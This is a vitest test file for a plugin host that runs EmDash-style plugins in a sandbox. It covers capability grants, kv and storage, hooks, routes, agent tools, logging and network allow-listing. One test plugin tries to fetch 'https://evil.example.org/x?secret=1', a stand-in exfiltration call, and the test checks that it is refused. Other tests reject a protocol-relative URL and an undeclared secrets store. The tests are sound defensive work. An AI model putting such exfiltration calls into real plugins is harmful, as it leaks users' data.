import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { JsonValue } from "@ambit/api-types";
import { createMemoryStore } from "@ambit/api-host";
import { build } from "esbuild";
import { describe, expect, onTestFinished, test } from "vitest";
import { installEmdashPlugin } from "./testing/installed-emdash-plugin.ts";
import { installPlugin, openHost } from "./testing/installed-plugin.ts";

const everything = `export default { routes: { keys: async (_route, ctx) => Object.fromEntries(Object.entries(ctx).map(([key, value]) => [key, typeof value === "object" ? Object.keys(value).sort() : typeof value])) } };`;
const always = { plugin: ["id", "version"], kv: ["delete", "get", "list", "set"], storage: [], log: ["debug", "error", "info", "warn"], site: ["locale", "name", "url"], url: "function", cron: ["cancel", "list", "schedule"] };

describe("its ctx", () => {
  test("has what is always there, and nothing that was not granted", async () => {
    const { host } = await openHost();
    await installEmdashPlugin(host, { backend: everything });
    expect(await host.callRoute("theirs", "keys", {})).toEqual(always);
  });

  test("has what was granted", async () => {
    const { host } = await openHost();
    const capabilities = ["write:content", "taxonomies:read", "media:write", "users:read", "network:request", "email:send"];
    await installEmdashPlugin(host, { backend: everything, permissions: { capabilities, network: ["api.example.com"] } });
    expect(await host.callRoute("theirs", "keys", {})).toEqual({
      ...always,
      http: ["fetch"],
      content: ["create", "createMany", "delete", "deleteMany", "get", "list", "update", "updateMany"],
      taxonomies: ["getAll", "getEntryTerms", "getTerms"],
      media: ["delete", "get", "list", "upload"],
      users: ["get", "getByEmail", "list"],
    });
  });

  test("reads and writes through the application", async () => {
    const { host, site } = await openHost();
    site.taxonomies.define({ name: "category", label: "Categories", labelSingular: null, hierarchical: false, collections: ["posts"], locale: "en" }, [{ id: "t1", taxonomy: "category", slug: "news", label: "News", parentId: null, locale: "en" }]);
    site.users.set("u1", { id: "u1", email: "ada@example.dev", name: "Ada", role: 40, createdAt: "2026-01-01T00:00:00.000Z" });
    const backend = `export default { routes: { all: async (_route, ctx) => {
      const made = await ctx.content.create("posts", { title: "Made" }, { locale: "fr" });
      await ctx.content.update("posts", made.id, { title: "Changed" });
      const { items, hasMore } = await ctx.content.list("posts", { limit: 5, where: { locale: "fr" } });
      const upload = await ctx.media.upload("dot.bin", "application/octet-stream", new Uint8Array([0, 255, 7]).subarray(1));
      const media = await ctx.media.get(upload.mediaId);
      return {
        items, hasMore, missing: await ctx.content.get("posts", "nobody"), deleted: await ctx.content.delete("posts", made.id), size: media.size,
        user: (await ctx.users.getByEmail("ada@example.dev")).name, terms: await ctx.taxonomies.getTerms("category"), all: (await ctx.taxonomies.getAll({ locale: "de" })).length,
        url: ctx.url("/about"), site: ctx.site.name, badUrl: await (async () => ctx.url("//evil.dev"))().catch((error) => error.message),
      };
    } } };`;
    await installEmdashPlugin(host, { backend, permissions: { capabilities: ["content:write", "media:write", "users:read", "taxonomies:read"] } });
    expect(await host.callRoute("theirs", "all", {})).toMatchObject({
      items: [{ type: "posts", locale: "fr", data: { title: "Changed" } }], hasMore: false, missing: null, deleted: true, size: 2,
      user: "Ada", terms: [{ slug: "news" }], all: 0, url: "https://garden.example.dev/about", site: "Garden", badUrl: expect.stringContaining("protocol-relative"),
    });
    expect(site.media.list().items[0]).toMatchObject({ filename: "dot.bin", size: 2 });
    expect(site.media.bytes(site.media.list().items[0]?.id ?? "")).toEqual(Buffer.from([255, 7]));
  });
});

test("kv gives values themselves, and all that begins alike, however much", async () => {
  const store = createMemoryStore();
  const { host } = await openHost({ store });
  const backend = `export default { routes: { kv: async (_route, { kv }) => {
    await kv.set("settings:a", { deep: [1] });
    await kv.set("gone", undefined);
    return { a: await kv.get("settings:a"), none: await kv.get("none"), gone: await kv.get("gone"), deleted: [await kv.delete("gone"), await kv.delete("gone")], settings: await kv.list("settings:"), many: (await kv.list("many:")).length };
  } } };`;
  for (let at = 0; at < 1001; at++) await store.kv.set({ pluginId: "theirs" }, `many:${at}`, at, 1_000_000);
  await installEmdashPlugin(host, { backend });
  expect(await host.callRoute("theirs", "kv", {})).toEqual({ a: { deep: [1] }, none: null, gone: null, deleted: [true, false], settings: [{ key: "settings:a", value: { deep: [1] } }], many: 1001 });
});

test("storage has collections with EmDash's functions, and refuses what was not declared in its words", async () => {
  const { host } = await openHost();
  const backend = `export default { routes: { storage: async (_route, { storage }) => {
    const { notes } = storage;
    await notes.putMany(Array.from({ length: 3 }, (_, at) => ({ id: "n" + at, data: { stars: at, kind: "note" } })));
    const page = await notes.query({ where: { kind: "note" }, orderBy: { stars: "desc" }, limit: 2 });
    const next = await notes.query({ where: { kind: "note" }, orderBy: { stars: "desc" }, limit: 2, cursor: page.cursor });
    const many = await notes.getMany(["n0", "nobody", ...Array.from({ length: 150 }, (_, at) => "x" + at), "n2"]);
    return {
      get: await notes.get("n1"), none: await notes.get("nobody"), exists: [await notes.exists("n1"), await notes.exists("nobody")], clamped: (await notes.query({ limit: -5 })).items.length,
      first: page.items.map(({ id }) => id), more: page.hasMore, next: next.items.map(({ id }) => id), last: next.hasMore, many: many instanceof Map && [...many.keys()],
      count: [await notes.count(), await notes.count({ stars: { gte: 1 } })], deleted: [await notes.delete("n0"), await notes.deleteMany(["n1", "n2", "nobody"])],
      two: await notes.query({ orderBy: { stars: "asc", kind: "asc" } }).catch((error) => error.message), undeclared: await storage.secrets.get("x").catch((error) => error.message),
    };
  } } };`;
  await installEmdashPlugin(host, { backend, permissions: { storage: { notes: { indexes: ["stars", "kind"] } } } });
  expect(await host.callRoute("theirs", "storage", {})).toEqual({
    get: { stars: 1, kind: "note" }, none: null, exists: [true, false], clamped: 1, first: ["n2", "n1"], more: true, next: ["n0"], last: false, many: ["n0", "n2"],
    count: [3, 2], deleted: [true, 2], two: "A query is ordered by one field.", undeclared: "Storage collection not declared: secrets",
  });
  expect(await host.journal.tail(5, { outcome: "refused" })).toMatchObject([{ method: "storage/get", target: "secrets" }]);
});

describe("hooks", () => {
  test("change what they are about by what they return, on a copy of their own", async () => {
    const { host, site } = await openHost();
    await installEmdashPlugin(host, { backend: `export default { hooks: { "content:beforeSave": async (event) => { event.content.title += "!"; return event.content; } } };` });
    expect((await site.saveContent("posts", { title: "Hello" })).data).toEqual({ title: "Hello!" });
  });

  test("veto by false, and let pass by nothing", async () => {
    const { host, site } = await openHost();
    await installEmdashPlugin(host, { backend: `export default { hooks: { "content:beforeDelete": { handler: async ({ id }, ctx) => (await ctx.kv.get("keep")) === id ? false : undefined } }, routes: { keep: async ({ input }, ctx) => ctx.kv.set("keep", input.id) } };` });
    const [kept, other] = [site.content.create("posts", {}), site.content.create("posts", {})];
    await host.callRoute("theirs", "keep", { method: "POST", body: { id: kept.id } });
    await expect(site.deleteContent("posts", kept.id)).rejects.toMatchObject({ code: "HOOK_BLOCKED" });
    expect(await site.deleteContent("posts", other.id)).toBe(true);
  });

  test("that fail block, unless they say that they go on", async () => {
    const { host, site } = await openHost();
    const backend = (errorPolicy: string) => `export default { hooks: { "content:beforeSave": { errorPolicy: "${errorPolicy}", priority: 210, timeout: 99999, handler: async () => { throw new Error("broken"); } } } };`;
    const status = await installEmdashPlugin(host, { backend: backend("continue") });
    expect(status.manifest.hooks).toEqual([{ name: "content:beforeSave", mode: "policy", priority: 210, timeoutMs: 30_000 }]);
    expect(await site.saveContent("posts", {})).toMatchObject({ type: "posts" });
    await installEmdashPlugin(host, { id: "strict", backend: backend("abort") });
    await expect(site.saveContent("posts", {})).rejects.toMatchObject({ code: "HOOK_BLOCKED", message: expect.stringContaining("broken") });
  });
});

describe("routes", () => {
  const backend = `import { PluginRouteError } from "emdash";
  const input = { safeParse: (value) => typeof value.n === "number" ? { success: true, data: { n: value.n + 1 } } : { success: false, error: new Error("n must be a number") } };
  export default { routes: {
    echo: { public: true, handler: async (route, ctx) => ({ ...route, plugin: ctx.plugin.id }) },
    checked: { input, handler: async ({ input }) => input },
    gone: async () => { throw PluginRouteError.notFound("No such form."); },
    broken: async () => { throw new Error("oops"); },
  } };`;

  test("get their input from the body or the query, and the request beside it", async () => {
    const { host } = await openHost();
    const status = await installEmdashPlugin(host, { backend });
    expect(status.manifest.routes).toEqual([{ name: "echo", public: true }, { name: "checked" }, { name: "gone" }, { name: "broken" }]);
    expect(await host.callRoute("theirs", "echo", { query: { tag: "a b" }, headers: { "user-agent": "Test/1" } })).toEqual({
      input: { tag: "a b" }, plugin: "theirs", requestMeta: { ip: null, userAgent: "Test/1", referer: null, geo: null },
      request: { url: "https://garden.example.dev/_emdash/api/plugins/theirs/echo?tag=a+b", method: "GET", headers: { "user-agent": "Test/1" } },
    });
    expect(await host.callRoute("theirs", "echo", { method: "POST", body: { a: 1 } })).toMatchObject({ input: { a: 1 } });
    expect(await host.callRoute("theirs", "echo", { method: "POST" })).not.toHaveProperty("input");
  });

  test("have their input checked, and end in the status that they mean", async () => {
    const { host } = await openHost();
    await installEmdashPlugin(host, { backend });
    const call = (route: string, body: JsonValue) => host.callRoute("theirs", route, { method: "POST", body });
    expect(await call("checked", { n: 1 })).toEqual({ n: 2 });
    await expect(call("checked", { n: "1" })).rejects.toMatchObject({ details: { httpStatus: 400 }, message: expect.stringContaining("n must be a number") });
    await expect(call("gone", null)).rejects.toMatchObject({ details: { httpStatus: 404 }, message: "No such form." });
    await expect(call("broken", null)).rejects.toMatchObject({ code: "GUEST_ERROR" });
  });
});

describe("the forms of a module", () => {
  const oneArgument = `{ id: "native", version: "1.0.0", capabilities: ["content:write"], hooks: { "content:afterSave": async (event, ctx) => ctx.kv.set("saved", event.collection) }, routes: { all: { handler: async (ctx) => ({ input: ctx.input, saved: await ctx.kv.get("saved"), agent: ctx.request.headers.get("user-agent"), method: ctx.request.method, content: ctx.content === undefined }) } } }`;

  test.each([
    ["definePlugin with an id", `import { definePlugin } from "emdash"; export default definePlugin(${oneArgument});`],
    ["a function that makes one", `import { definePlugin } from "emdash"; export function createPlugin(options = {}) { return definePlugin(${oneArgument}); } export default createPlugin;`],
  ])("%s: routes take one argument, and what it says of itself grants nothing", async (_form, backend) => {
    const { host, site } = await openHost();
    await installEmdashPlugin(host, { backend });
    await site.saveContent("posts", {});
    expect(await host.callRoute("theirs", "all", { method: "POST", body: { a: 1 }, headers: { "user-agent": "Test/1" } })).toEqual({ input: { a: 1 }, saved: "posts", agent: "Test/1", method: "POST", content: true });
  });

  test("definePlugin without one: routes take two", async () => {
    const { host } = await openHost();
    await installEmdashPlugin(host, { backend: `import { definePlugin } from "emdash"; export default definePlugin({ routes: { who: async (route, ctx) => [route.input, ctx.plugin.id] } });` });
    expect(await host.callRoute("theirs", "who", {})).toEqual([{}, "theirs"]);
  });

  test("tools for agents are tools, each answered by its route", async () => {
    const { host } = await openHost();
    const backend = `const input = { safeParse: (value) => value.message === "" ? { success: false, error: new Error("say something") } : { success: true, data: value }, "~standard": { jsonSchema: { input: () => ({ $schema: "x", type: "object", properties: { message: { type: "string" } }, required: ["message"] }) } } };
    export default { routes: { echo: { permission: "content:read", input, handler: async ({ input }, ctx) => [input.message, ctx.plugin.id] } }, mcp: { tools: { say: { description: "Says.", route: "echo", input } } } };`;
    const status = await installEmdashPlugin(host, { backend });
    expect(status.manifest.tools).toMatchObject([{ name: "say", params: { required: ["message"] } }]);
    expect(await host.callTool("theirs", "say", { message: "hello" })).toEqual(["hello", "theirs"]);
    await expect(host.callTool("theirs", "say", {})).rejects.toMatchObject({ code: "INVALID_PARAMS" });
    await expect(host.callTool("theirs", "say", { message: "" })).rejects.toMatchObject({ message: expect.stringContaining("say something") });
  });

  test("one that is there for the application's pages alone loads", async () => {
    const { host } = await openHost();
    const status = await installEmdashPlugin(host, { backend: `import { definePlugin } from "emdash"; export default () => definePlugin({ id: "color", version: "0.0.1", admin: { fieldWidgets: [{ name: "picker" }] } });` });
    expect(status.state).toBe("ready");
  });

  test("a module that is no plugin is refused when it is loaded", async () => {
    const { host } = await openHost();
    await expect(installEmdashPlugin(host, { backend: `export default { handlers: {} };` })).rejects.toMatchObject({ message: expect.stringContaining("neither `hooks` nor `routes`") });
  });

  test("TypeScript that imports from emdash is bundled against the adapter, and runs from one file", async () => {
    const contents = `import { definePlugin, adaptEmdashPlugin } from "emdash"; const plugin = definePlugin({ routes: { ping: async (_route: unknown, ctx: { plugin: { id: string } }) => ctx.plugin.id } }); export default adaptEmdashPlugin(plugin);`;
    const made = await build({ stdin: { contents, loader: "ts", resolveDir: import.meta.dirname }, bundle: true, write: false, format: "esm", platform: "neutral", target: "es2024", conditions: ["@ambit/source"], alias: { emdash: "@ambit/plugin-sdk/emdash" } });
    const code = made.outputFiles[0]?.text ?? "";
    expect(code).not.toMatch(/^import /m);
    const { host } = await openHost();
    await installPlugin(host, { manifest: { tools: [], routes: [{ name: "ping" }] }, code });
    expect(await host.callRoute("sample", "ping", {})).toBe("sample");
  });
});

test("http reaches the hosts it may, follows the judge on others, and says which was refused", async () => {
  const received: string[] = [];
  const server = createServer((request, answer) => {
    received.push(`${request.method} ${request.url} ${request.headers["x-emdash-event"]}`);
    answer.setHeader("content-type", "application/json").end('{"ok":true}');
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  onTestFinished(() => void server.close());
  const address = `http://hooks.lan:${(server.address() as AddressInfo).port}`;
  const { host } = await openHost({ resolveName: async () => ["127.0.0.1"] });
  const backend = `export default { routes: { send: async ({ input }, ctx) => {
    const response = await ctx.http.fetch(input.url, { method: "POST", headers: { "X-EmDash-Event": "content:create" }, body: JSON.stringify({}) });
    return [response.status, await response.json()];
  }, refused: async (_route, ctx) => ctx.http.fetch("https://evil.example.org/x?secret=1").catch((error) => error.message) } };`;
  await installEmdashPlugin(host, { backend, permissions: { network: ["{account}"] } });
  await host.settings.put("theirs", { accounts: [address], config: {} });
  expect(await host.callRoute("theirs", "send", { method: "POST", body: { url: `${address}/hook` } })).toEqual([200, { ok: true }]);
  expect(received).toEqual(["POST /hook content:create"]);
  expect(await host.callRoute("theirs", "refused", {})).toBe("Host not allowed: evil.example.org");
});

test("log keeps data beside the message, whatever it is", async () => {
  const lines: string[] = [];
  const { host } = await openHost({ onLog: ({ level, message }) => lines.push(`${level} ${message}`) });
  const backend = `export default { routes: { log: async (_route, { log }) => { const loop = {}; loop.loop = loop; log.info("plain"); log.warn("with", { a: [1] }); log.error("failed", new TypeError("x")); log.debug("loop", loop); } } };`;
  await installEmdashPlugin(host, { backend });
  await host.callRoute("theirs", "log", {});
  await host.close();
  expect(lines).toEqual(["info plain", 'warn with {"a":[1]}', "error failed TypeError: x", "debug loop (data that cannot be shown)"]);
});
